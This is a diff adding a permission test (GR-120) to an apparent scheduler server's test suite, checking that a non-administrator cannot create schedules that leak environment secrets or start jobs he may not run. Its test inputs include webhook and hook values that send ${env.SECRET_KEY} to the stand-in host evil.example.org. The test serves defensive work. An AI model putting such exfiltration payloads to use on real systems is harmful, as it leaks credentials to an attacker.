@@ -75,3 +75,29 @@ it("GR-121: an asynchronous call has the rights of who asked for it, also when a
   });
   expect(server.serve(options, () => server.call("clear", []))).toMatchObject({ kind: "returned" });
 });
+
+it("GR-120: a schedule sends no variable of the daemon's environment for somebody, and starts no other one that its owner may not run", () => {
+  const { owner, as } = town(`${SCRIPT} upsert procedure quiet () { print "x" }
+    upsert SCHEDULE as of_owner (sched: '0 0 1 1 *', exe: 'procedure', call: 'quiet')`);
+  const bob = as("bob");
+  const schedule = (name: string, more: string): string =>
+    `upsert SCHEDULE as ${name} (sched: '0 0 1 1 *', exe: 'procedure', call: 'quiet', ${more})`;
+  const secret = "https://evil.example.org/?key=\${env.SECRET_KEY}";
+  for (const more of [
+    `on_failure: [webhook('${secret}')]`,
+    `on_success: [webhook('https://evil.example.org/', headers: {"X-Key": '\${env.SECRET_KEY}'})]`,
+    `pre_run_hook: '${secret}'`,
+    `post_run_hook: '${secret}'`,
+  ]) {
+    expect(bob.run(schedule("leak", more)), more).toBe(
+      "PermissionDenied: A schedule that names variables of the environment is for administrators, and bob is none.",
+    );
+    expect(owner.run(schedule("allowed", more)), more).toMatch(/stored/);
+  }
+  expect(bob.run("LIST SCHEDULES")).toBe("");
+  const kick = schedule("kicks", "on_failure: [kickOffJob('of_owner')]");
+  expect(bob.run(kick)).toMatch(/^PermissionDenied: bob may not run schedule of_owner/);
+  owner.run("GRANT RUN ON SCHEDULE of_owner TO bob");
+  expect(bob.run(kick)).toMatch(/stored/);
+  expect(bob.run(schedule("own", "on_failure: [kickOffJob('own')]"))).toMatch(/stored/);
+});
